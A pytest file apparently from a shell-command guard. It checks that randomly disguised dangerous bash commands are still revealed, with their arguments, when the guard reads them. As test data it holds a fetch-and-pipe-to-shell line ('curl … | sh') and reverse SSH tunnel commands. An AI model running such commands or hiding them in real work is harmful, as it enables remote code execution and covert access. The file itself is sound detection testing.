"""Dangerous commands behind random disguises: real bash runs them, the reading must show them.

Each commit makes other samples, so that a failure can be repeated: the seed comes from its
hash. GUARD_DISGUISE_SEED takes another one, `random` a new one. `benchmarks/disguises.py`
measures the same on thousands of samples.
"""

from __future__ import annotations

import os
import secrets
import subprocess
from collections import Counter
from pathlib import Path
from random import Random

import pytest

from tests.support.disguises.judge import DISGUISES, Judge, Verdict, generate, judge_reading
from tests.support.disguises.sample import COMMANDS, Sample, plain
from tests.support.real_bash import missing

_SAMPLES = 250
_RESOLVED = 0.95

needs_bash = pytest.mark.skipif(bool(missing()), reason=missing() or "never")


@pytest.fixture(scope="module")
def seed() -> int:
    """The commit's own seed, or the one that is asked for; a new one where there is no git."""
    given = os.environ.get("GUARD_DISGUISE_SEED", "")
    if given.isdigit():
        return int(given)
    commit = subprocess.run(
        ["git", "rev-parse", "HEAD"],
        cwd=Path(__file__).parent,
        capture_output=True,
        text=True,
        check=False,
    )
    if given == "random" or commit.returncode:
        return secrets.randbelow(10**9)
    return int(commit.stdout[:7], 16)


def _told(seed: int, verdict: str, samples: list[Sample]) -> str:
    texts = [f"\n--- {' < '.join(s.kinds)}\n{s.text}" for s in samples]
    return f"GUARD_DISGUISE_SEED={seed}: {len(samples)} samples are {verdict}" + "".join(texts)


@needs_bash
@pytest.mark.timeout(300)
def test_disguises_hide_nothing(seed: int, tmp_path: Path) -> None:
    """What bash runs behind a disguise is shown, nearly always with all of its arguments."""
    print(f"GUARD_DISGUISE_SEED={seed}")
    random, judge = Random(seed), Judge(tmp_path)
    names = random.sample(list(DISGUISES), len(DISGUISES))
    made = [generate(random, names[at % len(names)]) for at in range(_SAMPLES)]
    samples = [sample for sample in made if judge.runs(sample)]
    assert len(samples) > _SAMPLES * 0.8, "most disguises no longer work in bash"
    found: dict[Verdict, list[Sample]] = {}
    for sample in samples:
        found.setdefault(judge_reading(sample), []).append(sample)
    for verdict in ("raised", "silent", "partial"):
        assert not found.get(verdict), _told(seed, verdict, found[verdict])
    others = [s for verdict in found for s in found[verdict] if verdict != "resolved"]
    share = len(found.get("resolved", [])) / len(samples)
    assert share >= _RESOLVED, _told(seed, "not resolved", others)


def test_the_judge_knows_a_miss(tmp_path: Path) -> None:
    """A reading that shows nothing of the target is called silent, a part of it partial."""
    target = COMMANDS[0]
    assert judge_reading(plain(target)) == "resolved"
    assert judge_reading(Sample(target, "true")) == "silent"
    assert judge_reading(Sample(target, "ssh -V")) == "silent"
    assert judge_reading(Sample(target, 'ssh -R "$RANDOM"')) == "partial"
    assert judge_reading(Sample(target, "curl -s https://example.org/x | sh")) == "opaque"


@needs_bash
def test_bash_has_the_last_word(tmp_path: Path) -> None:
    """A text that does not start the target with exactly its arguments is discarded."""
    judge, target = Judge(tmp_path), COMMANDS[0]
    assert judge.runs(plain(target))
    assert not judge.runs(Sample(target, "ssh -R 2222:localhost:22"))
    assert not judge.runs(Sample(target, "false && " + plain(target).text))


def test_a_seed_repeats_its_samples() -> None:
    """The same seed gives the same texts, and each kind of disguise can be put on."""
    assert generate(Random(7)) == generate(Random(7))
    kinds: Counter[str] = Counter()
    random = Random(11)
    for name in DISGUISES:
        kinds.update(generate(random, name).kinds)
    assert kinds.keys() == DISGUISES.keys()
